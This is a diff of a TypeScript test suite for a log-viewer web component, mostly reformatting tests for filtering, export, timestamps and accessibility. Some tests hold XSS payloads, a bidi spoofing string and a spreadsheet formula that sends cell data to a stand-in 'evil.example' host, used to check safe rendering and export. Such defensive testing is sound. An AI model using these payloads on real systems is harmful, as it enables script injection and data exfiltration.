@@ -3,7 +3,13 @@
 import { emulateMedia, sendKeys } from '@web/test-runner-commands';
 import { expect } from 'chai';
 import '@logwire/panels/define';
-import type { LogwireCopyEvent, LogwireExportEvent, LogwireFollowChangeEvent, LogwirePauseChangeEvent, SystemLogPanel } from '@logwire/panels';
+import type {
+  LogwireCopyEvent,
+  LogwireExportEvent,
+  LogwireFollowChangeEvent,
+  LogwirePauseChangeEvent,
+  SystemLogPanel,
+} from '@logwire/panels';
 import { axeViolations } from './axe.js';
 import { button, FakeClient, messages, part, rowCells, settle, shadow, system } from './fake-client.js';
 import { until } from '../../../test/helpers/wait.js';
@@ -64,9 +70,27 @@ describe('<system-log-panel>', () => {
 
   it('shows the seed columns and expands a row into a tree of all fields, with copy', async () => {
     const { panel, client } = await mount((p) => (p.timeZone = 'utc'));
-    client.emit('message', system('High memory usage detected', { level: 'WARNING', logger: 'orchestrator.instance_manager', module: 'manager', function: 'check', line: 7, memory_mb: 512, tags: { pool: 'a', ids: [1, 2] } }));
+    client.emit(
+      'message',
+      system('High memory usage detected', {
+        level: 'WARNING',
+        logger: 'orchestrator.instance_manager',
+        module: 'manager',
+        function: 'check',
+        line: 7,
+        memory_mb: 512,
+        tags: { pool: 'a', ids: [1, 2] },
+      }),
+    );
     await settle(panel);
-    expect([...shadow(panel).querySelectorAll('[part="column-header"] span')].map((s) => s.textContent)).to.deep.equal(['Time', 'Level', 'Logger', 'Module', 'Function:Line', 'Message']);
+    expect([...shadow(panel).querySelectorAll('[part="column-header"] span')].map((s) => s.textContent)).to.deep.equal([
+      'Time',
+      'Level',
+      'Logger',
+      'Module',
+      'Function:Line',
+      'Message',
+    ]);
     const [cells] = rowCells(panel);
     expect(cells!.slice(1)).to.deep.equal(['WARNING', 'orchestrator.instance_manager', 'manager', 'check:7', 'High memory usage detected']);
     expect(cells![0]).to.match(/^\d\d:\d\d:\d\d\.\d{3}$/);
@@ -77,7 +101,9 @@ describe('<system-log-panel>', () => {
     await settle(panel);
     expect(row.getAttribute('aria-expanded')).to.equal('true');
     const detail = part(panel, 'detail');
-    const items = [...detail.querySelectorAll('li')].map((li) => li.querySelector(':scope > .key, :scope > details > summary > .key')?.textContent);
+    const items = [...detail.querySelectorAll('li')].map(
+      (li) => li.querySelector(':scope > .key, :scope > details > summary > .key')?.textContent,
+    );
     expect(items).to.include.members(['memory_mb', 'tags', 'pool', 'ids', 'timestamp', 'line']);
     const memory = [...detail.querySelectorAll('li')].find((li) => li.querySelector(':scope > .key')?.textContent === 'memory_mb')!;
     expect(memory.querySelector('.value')!.textContent).to.equal('512');
@@ -96,7 +122,10 @@ describe('<system-log-panel>', () => {
 
   it('combines level toggles, logger and module filters and search (text, regex, metadata) and counts shown / total', async () => {
     const { panel, client } = await mount();
-    client.emit('message', system('user alice logged in', { logger: 'auth.session', module: 'session', level: 'INFO', user: { name: 'Alice' } }));
+    client.emit(
+      'message',
+      system('user alice logged in', { logger: 'auth.session', module: 'session', level: 'INFO', user: { name: 'Alice' } }),
+    );
     client.emit('message', system('disk almost full', { logger: 'infra.disk', module: 'disk', level: 'WARNING' }));
     client.emit('message', system('payment failed', { logger: 'billing.pay', module: 'pay', level: 'ERROR', order: 'ORD-77' }));
     client.emit('message', system('cache miss', { logger: 'auth.cache', module: 'cache', level: 'DEBUG' }));
@@ -302,7 +331,10 @@ describe('<system-log-panel>', () => {
     const json = JSON.parse(exports[0]!.content) as { type: string; data: { message?: string; reason?: string } }[];
     expect(json.map((item) => item.type)).to.deep.equal(['system_log', 'system_log', 'system_log', 'system_log', 'system_log', 'gap']);
     expect(json[0]!.data.message).to.equal('=HYPERLINK("http://evil.example/?"&A1,"x")');
-    const ndjson = exports[1]!.content.trimEnd().split('\n').map((line) => JSON.parse(line) as { data: { message?: string } });
+    const ndjson = exports[1]!.content
+      .trimEnd()
+      .split('\n')
+      .map((line) => JSON.parse(line) as { data: { message?: string } });
     expect(ndjson.length).to.equal(6);
     expect(ndjson[4]!.data.message).to.equal(' =1+1');
     const csv = exports[2]!.content.split('\r\n');
@@ -327,7 +359,8 @@ describe('<system-log-panel>', () => {
     root.append(panel);
     await settle(panel);
     const seen: Event[] = [];
-    for (const name of ['logwire-pause-change', 'logwire-follow-change', 'logwire-clear'] as const) document.addEventListener(name, (event) => seen.push(event), { once: true });
+    for (const name of ['logwire-pause-change', 'logwire-follow-change', 'logwire-clear'] as const)
+      document.addEventListener(name, (event) => seen.push(event), { once: true });
     panel.pause();
     panel.follow = false;
     await settle(panel);
@@ -358,7 +391,10 @@ describe('<system-log-panel>', () => {
 
   it('shows local or UTC time, the connection state and inline gap markers', async () => {
     const { panel, client } = await mount((p) => p.setAttribute('time-zone', 'utc'));
-    client.emit('message', { type: 'system_log', data: { timestamp: '2026-03-04T22:15:30.250Z', level: 'INFO', logger: 'a', message: 'timed', module: 'm', function: 'f', line: 1 } });
+    client.emit('message', {
+      type: 'system_log',
+      data: { timestamp: '2026-03-04T22:15:30.250Z', level: 'INFO', logger: 'a', message: 'timed', module: 'm', function: 'f', line: 1 },
+    });
     await settle(panel);
     expect(shadow(panel).querySelector('[part="row"] .time')!.textContent).to.equal('22:15:30.250');
     panel.setAttribute('time-zone', 'local');
@@ -371,7 +407,7 @@ describe('<system-log-panel>', () => {
     for (const state of ['connecting', 'live', 'catching-up', 'offline'] as const) {
       client.emit('state', state);
       await settle(panel);
-      labels.push(part(panel, 'state').textContent!);
+      labels.push(part(panel, 'state').textContent);
     }
     expect(labels).to.deep.equal(['Connecting…', 'Live', 'Catching up', 'Offline']);
 
@@ -379,18 +415,29 @@ describe('<system-log-panel>', () => {
     client.emit('gap', { from: null, to: null, reason: 'epoch' });
     client.emit('message', system('after gap'));
     await settle(panel);
-    expect([...shadow(panel).querySelectorAll('[part="gap"]')].map((gap) => gap.textContent)).to.deep.equal(['~120 messages missing, trimmed', 'Messages missing, epoch']);
+    expect([...shadow(panel).querySelectorAll('[part="gap"]')].map((gap) => gap.textContent)).to.deep.equal([
+      '~120 messages missing, trimmed',
+      'Messages missing, epoch',
+    ]);
     expect(messages(panel)).to.deep.equal(['timed', 'after gap']);
     expect(part(panel, 'count').textContent).to.equal('2 / 2');
   });
 
   it('renders HTML, scripts, javascript: URLs and bidi overrides as text', async () => {
-    const payloads = ['javascript:__xss()', '<img src=x onerror=__xss()>', '"><script>__xss()</script>', '<a href="javascript:__xss()">x</a>', '<style>*{display:none}</style>', '${__xss()}'];
+    const payloads = [
+      'javascript:__xss()',
+      '<img src=x onerror=__xss()>',
+      '"><script>__xss()</script>',
+      '<a href="javascript:__xss()">x</a>',
+      '<style>*{display:none}</style>',
+      '${__xss()}',
+    ];
     const { panel, client } = await mount();
     (window as unknown as { __xss: () => void }).__xss = () => {
       throw new Error('payload executed');
     };
-    for (const payload of payloads) client.emit('message', system(payload, { logger: payload, module: payload, function: payload, [payload]: payload }));
+    for (const payload of payloads)
+      client.emit('message', system(payload, { logger: payload, module: payload, function: payload, [payload]: payload }));
     client.emit('message', system('admin\u202Egnp.exe delete\u2066user\u2069 \u001b[31mRED\u001b[0m'));
     client.emit('message', system('x', { level: 'info" style="background:red' }));
     await settle(panel);
@@ -428,14 +475,19 @@ describe('<system-log-panel>', () => {
     expect(cell.endsWith('…')).to.equal(true);
     shadow(panel).querySelector<HTMLElement>('[part="row"]')!.click();
     await settle(panel);
-    const value = [...part(panel, 'detail').querySelectorAll('li')].find((li) => li.querySelector(':scope > .key')?.textContent === 'message')!.querySelector('.value')!;
-    expect(value.textContent!.length).to.equal(1 << 20);
+    const value = [...part(panel, 'detail').querySelectorAll('li')]
+      .find((li) => li.querySelector(':scope > .key')?.textContent === 'message')!
+      .querySelector('.value')!;
+    expect(value.textContent.length).to.equal(1 << 20);
   });
 
   it('shows records with missing or odd fields without failing, and reads levels given as a string', async () => {
     const { panel, client } = await mount();
     client.emit('message', { type: 'system_log', data: {} } as never);
-    client.emit('message', { type: 'system_log', data: { timestamp: 'yesterday', level: 40, logger: null, message: { nested: true }, module: 'm', function: 'f', line: '7' } } as never);
+    client.emit('message', {
+      type: 'system_log',
+      data: { timestamp: 'yesterday', level: 40, logger: null, message: { nested: true }, module: 'm', function: 'f', line: '7' },
+    } as never);
     client.emit('message', system('normal', { level: 'ERROR' }));
     await settle(panel);
     const cells = rowCells(panel);
@@ -460,7 +512,29 @@ describe('<system-log-panel>', () => {
     panel.style.setProperty('--logwire-background', 'rgb(1, 2, 3)');
     expect(getComputedStyle(panel).backgroundColor).to.equal('rgb(1, 2, 3)');
     const names = new Set([...shadow(panel).querySelectorAll('[part]')].flatMap((element) => element.getAttribute('part')!.split(' ')));
-    for (const name of ['base', 'header', 'title', 'count', 'state', 'toolbar', 'levels', 'level-toggle', 'filter', 'search', 'regex-toggle', 'highlight-toggle', 'pause-button', 'follow-button', 'clear-button', 'export', 'export-button', 'column-header', 'list', 'empty', 'announcer']) {
+    for (const name of [
+      'base',
+      'header',
+      'title',
+      'count',
+      'state',
+      'toolbar',
+      'levels',
+      'level-toggle',
+      'filter',
+      'search',
+      'regex-toggle',
+      'highlight-toggle',
+      'pause-button',
+      'follow-button',
+      'clear-button',
+      'export',
+      'export-button',
+      'column-header',
+      'list',
+      'empty',
+      'announcer',
+    ]) {
       expect(names.has(name), name).to.equal(true);
     }
   });
@@ -534,7 +608,12 @@ describe('<system-log-panel>', () => {
     await until(() => part(panel, 'announcer').textContent === '1 new entry', 'announcement after the move');
     // The resize observer follows the new size: a 200 px list renders fewer rows than a 400 px one.
     for (let i = 0; i < 100; i++) client.emit('message', system(`fill ${i}`));
-    await until(() => shadow(panel).querySelectorAll('[part="row"]').length > 0 && shadow(panel).querySelectorAll('[part="row"]').length <= Math.ceil(200 / 20) + 2 * 8 + 1, 'rows for 200 px');
+    await until(
+      () =>
+        shadow(panel).querySelectorAll('[part="row"]').length > 0 &&
+        shadow(panel).querySelectorAll('[part="row"]').length <= Math.ceil(200 / 20) + 2 * 8 + 1,
+      'rows for 200 px',
+    );
   });
 
   it('is accessible', async () => {
